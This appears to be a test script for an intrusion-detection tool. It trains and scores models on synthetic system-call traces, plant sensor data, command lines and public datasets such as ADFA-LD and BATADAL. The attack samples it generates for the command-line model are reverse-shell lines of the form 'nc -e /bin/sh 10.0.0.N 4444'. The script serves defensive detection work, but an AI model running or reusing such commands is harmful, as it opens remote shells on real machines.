#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Models from data files, end to end: made-up data always; floors on public sets where they lie.
# usage: model_data.sh REEVE SOURCE_ROOT
set -u
reeve=$(realpath "$1") source=$(realpath -m "$2")
shared=${REEVE_SHARED:-$(realpath "$2")/../shared}
[ -d "$shared/data" ] || shared=/shared
data=$shared/data
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
cd "$dir" || exit 2
number=0 failed=0

ok() { # ok DESCRIPTION: of the status of the last command
    status=$?
    number=$((number + 1))
    if [ "$status" -eq 0 ]; then
        echo "ok $number - $1"
    else
        failed=1
        echo "not ok $number - $1"
        [ -f out ] && sed 's/^/# /' out | tail -20
    fi
}

skip() { # skip DESCRIPTION REASON
    number=$((number + 1))
    echo "ok $number - $1 # SKIP $2"
}

figure() { # figure NAME: its value of the table in ./out, as 1/10000
    awk -v name="$1" 'substr($0, 1, length(name)) == name {
        rest = substr($0, length(name) + 1); split(rest, part, " "); printf "%d", part[1] * 10000; exit }' out
}

floor() { # floor NAME LEAST: is the figure at least that, in 1/10000
    [ "$(figure "$1")" -ge "$2" ]
}

ceiling() { [ "$(figure "$1")" -le "$2" ]; }

# ---- Made-up data ----
made_up() { # made_up LABEL COUNT SEED: programs that loop; attacks also connect and execute
    awk -v label="$1" -v count="$2" -v seed="$3" 'BEGIN {
        srand(seed); print "id\tlabel\tcalls"
        for (i = 0; i < count; i++) {
            line = ""
            for (k = 10 + int(rand() * 20); k > 0; k--) {
                line = line " 5"
                for (r = int(rand() * 5); r > 0; r--) line = line " " (rand() < 0.05 ? 140 : 3)
                line = line " 6"
                if (label && k % 4 == 1) line = line " 102 63 63 11"
            }
            printf "%d\t%d\t%s\n", i, label, substr(line, 2)
        } }'
}
made_up 0 200 1 >normal.tsv
made_up 0 100 2 >fresh.tsv
made_up 1 40 3 | gzip >attack.tsv.gz
made_up 1 40 4 >other.tsv

"$reeve" model train --task sequence --normal normal.tsv --attack attack.tsv.gz -o a.rv >out 2>&1
ok "a sequence model is trained"
"$reeve" model train --task sequence --normal normal.tsv --attack attack.tsv.gz -o b.rv >out 2>&1
cmp a.rv b.rv >out 2>&1
ok "the same bytes on every run"
"$reeve" model score --model a.rv --input other.tsv >out 2>&1 &&
    [ "$(wc -l <out)" -eq 40 ] && ! grep -qv '^[0-9]*	[0-9]*	-*[0-9.]*$' out
ok "one line an item: id, risk, raw score"
"$reeve" model eval --model a.rv --normal fresh.tsv --attack other.tsv >out 2>&1 &&
    floor "detection at risk 130" 9000 && ceiling "false positives at risk 130" 1200
ok "made-up attacks are found at the promised rate"
"$reeve" model eval --model a.rv --normal fresh.tsv --attack other.tsv -o c.rv --json >out 2>&1 &&
    grep -q '"evasion":\[{"attack":"as recorded"' out && "$reeve" model inspect c.rv >out 2>&1
ok "figures and the evasion table go into the manifest"
"$reeve" model explain a.rv --input other.tsv --id 7 --top 3 >out 2>&1 &&
    [ "$(wc -l <out)" -eq 4 ] && head -1 out | grep -q '^7: risk ' &&
    grep -q 'never seen at [0-9]*:.* \(102\|63\|11\)' out
ok "reasons: runs of calls never seen, and where"
"$reeve" model explain a.rv --input other.tsv --json >out 2>&1 && grep -q '"unseen": true' out
ok "the trace with the highest score, explained as JSON"
"$reeve" model explain a.rv --input other.tsv --id nobody >out 2>&1
[ $? -eq 2 ] && grep -q "no trace has the id 'nobody'" out
ok "a trace that is not there"
awk 'BEGIN { srand(5); print "time,level,flow,pressure"
    for (i = 0; i < 300; i++) { l = 3 + sin(i / 4) / 2; f = 40 + rand()
        print i "," l "," (i >= 250 ? f + 40 : f) "," 2 * l + f / 20 } }' >plant.csv
head -201 plant.csv >plant_fit.csv
"$reeve" model train --task series --normal plant_fit.csv -o p.rv >out 2>&1 &&
    "$reeve" model explain p.rv --input plant.csv --id 290 --top 1 >out 2>&1 &&
    grep -q 'flow reads 8.*, too high: 40' out
ok "a row is explained by its sensors and their direction"
{ seq 1 60 | sed 's/.*/ls -l file&/'; seq 1 60 | sed 's/.*/grep -n word file&/'; } >lines.txt
seq 1 12 | sed 's/.*/nc -e \/bin\/sh 10.0.0.& 4444/' >bad_lines.txt
"$reeve" model train --task text --normal lines.txt --attack bad_lines.txt -o t.rv >out 2>&1 &&
    "$reeve" model explain t.rv --input bad_lines.txt --id 2 --top 9 >out 2>&1 &&
    grep -qE '[+].* (bin|sh|nc|-e) ' out
ok "a command line is explained by its words"
printf 'id\tcalls\nx\t1 b\n' >bad.tsv
"$reeve" model score --model a.rv --input bad.tsv >out 2>&1
[ $? -eq 2 ] && grep -q 'bad.tsv, line 2' out
ok "a bad file is refused with its line"
head -c 1000 a.rv >half.rv
"$reeve" model score --model half.rv --input other.tsv >out 2>&1
[ $? -eq 2 ]
ok "half a model is refused"

# ---- Models elsewhere: a server that answers, one that is slow, none at all ----
cat >forest.json <<'JSON'
{"version":[1,7,4],"learner":{"attributes":{},"feature_names":[],"feature_types":[],"gradient_booster":{"name":"gbtree","model":{"gbtree_model_param":{"num_trees":"1","num_parallel_tree":"1","size_leaf_vector":"0"},"tree_info":[0],"trees":[{"id":0,"base_weights":[0.0,-1.0,1.0],"categories":[],"categories_nodes":[],"categories_segments":[],"categories_sizes":[],"default_left":[1,0,0],"left_children":[1,-1,-1],"loss_changes":[1.0,0.0,0.0],"parents":[2147483647,0,0],"right_children":[2,-1,-1],"split_conditions":[5.0,-1.0,1.0],"split_indices":[0,0,0],"split_type":[0,0,0],"sum_hessian":[2.0,1.0,1.0],"tree_param":{"num_deleted":"0","num_feature":"2","num_nodes":"3","size_leaf_vector":"0"}}]}},"learner_model_param":{"base_score":"5E-1","num_class":"0","num_feature":"2","num_target":"1"},"objective":{"name":"binary:logistic","reg_loss_param":{"scale_pos_weight":"1"}}}}
JSON
printf '1 0\n9 0\n7 3\n' >three.txt
cat >server.py <<'PY'
import http.server, json, sys, time
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        row = body["inputs"][0]["data"]
        if row[1] == 3:
            time.sleep(1)
        answer = json.dumps({"model_name": "m", "outputs": [{"name": "y", "datatype": "FP64",
            "shape": [1, 1], "data": [row[0] * 10.0]}]}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)
    def log_message(self, *args): pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_port, flush=True)
server.serve_forever()
PY
"$reeve" model import forest.json -o forest.rv >out 2>&1 &&
    "$reeve" model run --remote 127.0.0.1:1 --name m --model forest.rv --input three.txt >out 2>&1 &&
    [ "$(grep -c 'local	' out)" -eq 3 ] && grep -q '^0 of 3 rows' out
ok "without a server our own forest answers"
if command -v python3 >/dev/null; then
    python3 server.py >port & server=$!
    while [ ! -s port ]; do sleep 0.1; done
    "$reeve" model run --remote "127.0.0.1:$(cat port)" --name m --model forest.rv --input three.txt \
        --deadline 500 >out 2>&1 && grep -q '^1	remote	10.0' out && grep -q '^2	remote	90.0' out &&
        grep -q '^3	local	1.0' out && grep -q '^2 of 3 rows' out
    ok "a server's scores, and ours for the row that it is too slow for"
    kill $server
else
    skip "a server" "no python3"
fi

graph=$source/fuzz/corpus/onnx/margin-sum.onnx
awk 'BEGIN { for (r = 1; r < 6; r++) { for (i = 0; i < 12; i++) printf "%d ", (r * 7 + i * 3) % 11; print "" } }' >twelve.txt
"$reeve" model run --onnx "$graph" --input twelve.txt >out 2>&1
case $? in
0) [ "$(grep -c '^[1-5]	onnx	-*[0-9.]*$' out)" -eq 5 ] && ok "a graph runs in ONNX Runtime" ;;
*) grep -q 'not installed' out && skip "a graph in ONNX Runtime" "not installed" ;;
esac || { false; ok "a graph runs in ONNX Runtime"; }

# ---- ADFA-LD: fit on all of normal_train and the first 1,500 of the other normal traces; test on
# the rest, and on the last two of six attack runs. Floors stand a little below what this one split
# gives (0.83 as recorded, 0.72 appended, 0.84 and 0.62 interleaved); docs/evaluation.md has the protocol ----
if [ -r "$data/adfa-ld/attack_A.tsv.gz" ]; then
    zcat "$data/adfa-ld/normal_validation_A.tsv.gz" >validation.tsv
    head -1501 validation.tsv >val_fit.tsv
    { head -1 validation.tsv; tail -n +1502 validation.tsv; } >val_test.tsv
    zcat "$data/adfa-ld/attack_A.tsv.gz" | awk -F'\t' 'NR == 1 || $4 <= 4' >att_fit.tsv
    zcat "$data/adfa-ld/attack_A.tsv.gz" | awk -F'\t' 'NR == 1 || $4 > 4' >att_test.tsv
    "$reeve" model train --task sequence --normal "$data/adfa-ld/normal_train.tsv.gz" val_fit.tsv \
        -o one.rv >out 2>&1 &&
        "$reeve" model eval --model one.rv --normal val_test.tsv --attack att_test.tsv >out 2>&1 &&
        floor "auc" 8800 && floor "detection at risk 200, as recorded" 1200 &&
        ceiling "false positives at risk 200" 120
    ok "ADFA-LD one-class: area at least 0.88, 12 % found, at most 1.2 % false positives"
    "$reeve" model train --task sequence --normal "$data/adfa-ld/normal_train.tsv.gz" val_fit.tsv \
        --attack att_fit.tsv -o two.rv >out 2>&1 &&
        "$reeve" model eval --model two.rv --normal val_test.tsv --attack att_test.tsv >out 2>&1 &&
        floor "detection at risk 200, as recorded" 8000 &&
        floor "detection at risk 200, 4:1 appended" 7000 &&
        floor "detection at risk 200, 1:1 interleaved" 7500 &&
        floor "detection at risk 200, 2:1 interleaved" 5500 &&
        ceiling "false positives at risk 200" 120
    ok "ADFA-LD supervised: unseen runs 80 %, appended 70 %, interleaved 75 %, 1.2 % false"
else
    skip "ADFA-LD" "no $data/adfa-ld"
fi

# ---- BATADAL: relations learnt from the normal year and the first four attacks' months ----
if [ -r "$data/batadal/dataset04_full_labels.csv.gz" ]; then
    zcat "$data/batadal/dataset04_full_labels.csv.gz" >d04.csv
    head -3101 d04.csv >d04_fit.csv
    { head -1 d04.csv; tail -n +3102 d04.csv; } >d04_test.csv
    "$reeve" model train --task series --normal "$data/batadal/dataset03_normal_year.csv.gz" \
        --attack d04_fit.csv -o water.rv >out 2>&1 &&
        "$reeve" model eval --model water.rv --attack d04_test.csv >out 2>&1 &&
        floor "attacks found" 30000 && ceiling "false alarms" 20000 &&
        floor "earliness of detection" 9550 && floor "F1 of rows" 9400 && floor "score S" 9600 &&
        floor "F1 of events" 7400 && floor "F1 of eTaPR" 9000
    ok "BATADAL: three of three later attacks found early, S 0.96, at most two false alarms"
    "$reeve" model explain water.rv --input d04_test.csv --id "08/12/16 00" --top 1 >out 2>&1 &&
        grep -q 'L_T4 repeats exactly what it read [0-9]* rows before' out
    ok "BATADAL: a recording of a tank's level is named as one"
else
    skip "BATADAL" "no $data/batadal"
fi

# ---- SKAB: per file, fit on the first 400 rows, score the rest ----
if [ -r "$data/skab/skab_A.tar.gz" ]; then
    tar -xzf "$data/skab/skab_A.tar.gz" && : >skab.out
    for file in valve1/3.csv valve1/7.csv valve1/11.csv valve1/13.csv other/6.csv; do
        head -401 "$file" >fit.csv
        { head -1 "$file"; tail -n +402 "$file"; } >rest.csv
        "$reeve" model train --task series --normal fit.csv -o skab.rv >/dev/null 2>&1
        "$reeve" model score --model skab.rv --input rest.csv | cut -f2 >risks
        tail -n +2 rest.csv | awk -F';' '{ print $(NF - 1) }' | paste risks - >>skab.out
    done
    awk '{ alarm = $1 >= 200; bad = $2 > 0; tp += alarm && bad; fp += alarm && !bad; fn += !alarm && bad }
        END { f1 = 2 * tp / (2 * tp + fp + fn); printf "F1 %.3f\n", f1; exit f1 < 0.85 }' skab.out >out
    ok "SKAB: F1 at least 0.85 on five files"
else
    skip "SKAB" "no $data/skab"
fi

# ---- Command lines: one skeleton in five, of both kinds, is never learnt ----
unseen() { # unseen FIT TEST <LINES: deal lines by their skeleton
    sed -E "h; s/\"[^\"]*\"|'[^']*'/Q/g; s:[^ ]*/[^ ]*:P:g; s/[0-9]+/N/g; G" |
        awk -v fit="$1" -v test="$2" 'NR % 2 { if (!($0 in group)) group[$0] = count++ % 5
            file = group[$0] ? fit : test; next } { print >file }'
}
if [ -r "$data/cmdline/benign_nl2bash_A.txt.gz" ]; then
    zcat "$data/cmdline/benign_nl2bash_A.txt.gz" | unseen benign_fit benign_test
    zcat "$data/cmdline/malicious_slp.txt.gz" | unseen malicious_fit malicious_test
    "$reeve" model train --task text --normal benign_fit --attack malicious_fit -o lines.rv >out 2>&1 &&
        "$reeve" model eval --model lines.rv --normal benign_test --attack malicious_test >out 2>&1 &&
        floor "detection at risk 300" 6600 && ceiling "false positives at risk 300" 35 &&
        floor "detection at risk 200, words after" 7900 && floor "detection at risk 200" 7900
    ok "command lines of unseen skeletons: two in three at 1 in 1,000, padded or not"
else
    skip "command lines" "no $data/cmdline"
fi

echo "1..$number"
exit $failed
